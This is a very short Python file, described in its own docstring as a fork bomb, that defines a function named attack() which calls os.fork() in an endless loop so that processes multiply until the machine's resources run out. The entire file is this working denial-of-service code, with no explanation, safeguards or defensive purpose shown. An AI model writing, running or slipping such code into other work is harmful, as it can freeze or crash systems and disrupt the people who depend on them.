"""A fork bomb: every process forks forever."""

import os


def attack():
    while True:
        os.fork()
